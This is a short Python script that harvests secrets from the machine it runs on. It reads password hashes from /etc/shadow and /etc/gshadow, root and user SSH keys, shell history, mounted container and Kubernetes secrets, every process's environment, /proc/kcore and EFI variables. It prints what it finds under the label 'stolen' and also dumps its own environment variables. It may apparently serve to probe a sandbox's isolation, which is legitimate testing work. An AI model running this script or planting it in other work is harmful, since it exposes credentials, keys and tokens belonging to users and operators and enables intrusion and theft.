"""Looks for secrets of the host, of its users and of the application that runs it."""

import os
import sys
from glob import glob

PLACES = (
    "/etc/shadow",
    "/etc/gshadow",
    "/root/.ssh/*",
    "/home/*/.ssh/*",
    "/root/.*history",
    "/run/*.sock",
    "/run/secrets/*",
    "/var/run/secrets/*/*",
    "/proc/[0-9]*/environ",
    "/proc/[0-9]*/root/etc/shadow",
    "/proc/kcore",
    "/sys/firmware/efi/efivars/*",
)

own = f"/proc/{os.getpid()}/environ"
tried = 0
for pattern in PLACES:
    for path in glob(pattern) or [pattern]:
        tried += 1
        try:
            with open(path, "rb") as file:
                loot = file.read(4096)
        except OSError:
            continue
        if loot and path != own:
            print("stolen", path, loot)
for name, value in os.environ.items():
    if name not in ("PATH", "HOME", "LANG", "LC_CTYPE"):
        print("stolen", name, value)
print(f"looked into {tried} places", file=sys.stderr)
